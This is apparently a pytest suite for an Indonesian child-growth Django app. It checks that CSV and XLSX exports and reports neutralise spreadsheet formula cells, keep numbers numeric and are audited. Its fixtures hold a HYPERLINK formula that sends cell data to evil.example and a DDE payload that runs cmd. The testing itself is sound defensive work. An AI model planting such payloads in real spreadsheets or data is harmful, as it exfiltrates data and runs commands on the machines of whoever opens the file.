"""Every export of the web app and every report: a cell a spreadsheet would run as a formula
comes out neutralised, numbers stay numbers, and each export is audited as an export."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import polars as pl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from tests.apps.conftest import World
from tests.apps.factories import ChildFactory, FamilyFactory
from tests.ingest.eppgbm_files import HEADER, PITFALLS, row, write_export
from tests.xlsx_cells import column_cells
from tumbuh.accounts.models import Action, AuditEvent
from tumbuh.cli import main
from tumbuh.files.xlsx import PERCENT_FORMAT
from tumbuh.imports.models import ImportJob

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
DDE = "+1+cmd|' /C calc'!A0"
SRC = Path(__file__).resolve().parents[2] / "src" / "tumbuh"


def _cells(body: bytes) -> list[list[str]]:
    frame = pl.read_csv(io.BytesIO(body), infer_schema=False)
    return [list(frame.columns), *[list(r) for r in frame.iter_rows()]]


def _streamed(client: Client, url: str) -> bytes:
    return b"".join(client.get(url).streaming_content)


def test_the_work_list_csv_neutralises_a_name_and_keeps_ids_as_numbers(
    world: World, client: Client
) -> None:
    child = ChildFactory(family=world.child_a.family, posyandu=world.posyandu_a, name=EVIL)
    client.force_login(world.kader)
    body = _streamed(client, "/measurements/worklists/export.csv")
    rows = {r[1]: r for r in _cells(body)[1:]}
    assert rows[str(child.pk)][2] == "'" + EVIL
    assert rows[str(child.pk)][0] == "belum diukur bulan ini"
    assert rows[str(world.child_a.pk)][2] == world.child_a.name
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", rows[str(child.pk)][4])


def test_the_work_list_xlsx_writes_a_name_as_text_and_ids_as_numbers(
    world: World, client: Client
) -> None:
    child = ChildFactory(family=world.child_a.family, posyandu=world.posyandu_a, name=EVIL)
    client.force_login(world.kader)
    response = client.get("/measurements/worklists/export.xlsx")
    body = b"".join(response.streaming_content)
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = pl.read_excel(io.BytesIO(body))
    assert sheet.columns[:3] == ["Daftar", "ID anak", "Nama"]
    mine = sheet.filter(pl.col("ID anak") == child.pk).row(0)
    assert mine[0] == "belum diukur bulan ini"
    assert mine[2] == EVIL
    assert AuditEvent.objects.filter(action=Action.EXPORT, object_type="worklists").count() == 1


def _evil_family(world: World) -> None:
    family = FamilyFactory(
        kelurahan=world.kelurahan_a, head_name=DDE, welfare_decile=2, no_latrine=True
    )
    ChildFactory(family=family, posyandu=world.posyandu_a, name="Anak")


def test_the_gap_list_csv_neutralises_a_family_name(world: World, client: Client) -> None:
    _evil_family(world)
    client.force_login(world.tpps)
    response = client.get("/convergence/gaps/dinsos/")
    assert response["Content-Disposition"].endswith('.csv"')
    cells = [cell for line in _cells(response.content) for cell in line]
    assert "'" + DDE in cells
    assert DDE not in cells
    assert AuditEvent.objects.filter(action=Action.EXPORT, object_type="gaps:dinsos").count() == 1


def test_the_gap_list_xlsx_writes_the_family_name_as_text(world: World, client: Client) -> None:
    _evil_family(world)
    client.force_login(world.tpps)
    response = client.get("/convergence/gaps/dinsos/?format=xlsx")
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    sheet = pl.read_excel(io.BytesIO(response.content))
    assert DDE in [cell for line in sheet.iter_rows() for cell in line]


def test_the_scorecard_report_neutralises_a_kelurahan_name_and_is_audited(
    world: World, tmp_path: Path
) -> None:
    world.kelurahan_a.name = EVIL
    world.kelurahan_a.save()
    _evil_family(world)
    out = tmp_path / "scorecard.csv"
    assert main(["report", "scorecard", "--region", "71.72", "-o", str(out), "--user", "root"]) == 0
    table = pl.read_csv(out, infer_schema=False)
    assert "'" + EVIL in table.row(0)
    assert float(table["due"][0]) > 0  # numbers stay numbers
    assert AuditEvent.objects.filter(
        user=world.admin, action=Action.EXPORT, object_type="scorecard", object_id="71.72"
    ).exists()


def test_the_scorecard_report_writes_percent_complete_as_percent_cells(
    world: World, tmp_path: Path
) -> None:
    _evil_family(world)
    out = tmp_path / "scorecard.xlsx"
    assert main(["report", "scorecard", "--region", "71.72", "-o", str(out), "--user", "root"]) == 0
    complete = [cell for cell in column_cells(out, "percent_complete") if cell[0] is not None]
    assert complete
    assert all(fmt == PERCENT_FORMAT and 0 <= value <= 1 for value, fmt in complete)


def test_the_rejection_report_neutralises_the_files_own_values(
    world: World, tmp_path: Path
) -> None:
    rows = [*PITFALLS[:1], row(Nama=EVIL, **{"Desa/Kel": "Nowhere", "ZS TB/U": "-1,95"})]
    source = write_export(tmp_path / "export.csv", rows)
    report = tmp_path / "rejects.csv"
    argv = ["import", "eppgbm", str(source), "--region", "71.72", "--user", "root"]
    assert main([*argv, "--rejects", str(report)]) == 0
    rejected = pl.read_csv(report, infer_schema=False).filter(pl.col("status") == "ditolak")
    assert rejected["Nama"].to_list() == ["'" + EVIL]
    assert rejected["ZS TB/U"].to_list() == ["-1,95"]  # a plain number stays as it was


def test_the_web_rejection_report_writes_the_files_own_values_as_text(
    world: World, client: Client, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("TUMBUH_DATA_DIR", str(tmp_path))  # job files named by pk: not shared
    frame = pl.DataFrame(
        [row(Nama=DDE, **{"Desa/Kel": "Nowhere"})], schema=dict.fromkeys(HEADER, pl.String)
    )
    buffer = io.BytesIO()
    frame.write_csv(buffer)
    client.force_login(world.puskesmas)
    upload = SimpleUploadedFile("e.csv", buffer.getvalue(), content_type="text/csv")
    client.post("/imports/", {"kind": "eppgbm", "file": upload}, follow=True)
    job = ImportJob.objects.get()
    response = client.get(f"/imports/jobs/{job.pk}/report")
    content = b"".join(response.streaming_content)  # type: ignore[attr-defined]
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()
    assert AuditEvent.objects.filter(
        action=Action.EXPORT, object_type="import_report", object_id=str(job.pk)
    ).exists()


def test_the_scorecard_pdf_is_audited_as_an_export_and_the_page_as_a_view(
    world: World, client: Client
) -> None:
    client.force_login(world.tpps)
    client.get("/convergence/")
    client.get("/convergence/?format=pdf")  # 200, or 503 without Pango: asked for all the same
    actions = list(
        AuditEvent.objects.filter(object_type="scorecard")
        .order_by("at", "pk")
        .values_list("action", flat=True)
    )
    assert actions == [Action.VIEW_LIST, Action.EXPORT]


@pytest.mark.parametrize("pattern", [r"\.write_csv\(", r"csv\.writer\(", r"csv\.DictWriter\("])
def test_every_csv_is_written_through_tumbuh_files(pattern: str) -> None:
    """One place neutralises CSV cells; a CSV written anywhere else would skip it."""
    files = SRC / "files"
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if files not in path.parents and re.search(pattern, path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def test_the_work_list_csv_speaks_indonesian_and_names_places(world: World, client: Client) -> None:
    client.force_login(world.kader)
    header, *rows = _cells(_streamed(client, "/measurements/worklists/export.csv"))
    assert header == [
        "Daftar",
        "ID anak",
        "Nama",
        "NIK",
        "Tanggal lahir",
        "Posyandu",
        "Kelurahan",
        "Tanggal ukur",
        "Tidak masuk akal",
    ]
    mine = next(r for r in rows if r[2] == world.child_a.name)
    assert mine[5] == world.posyandu_a.name
    assert mine[6] == world.kelurahan_a.name
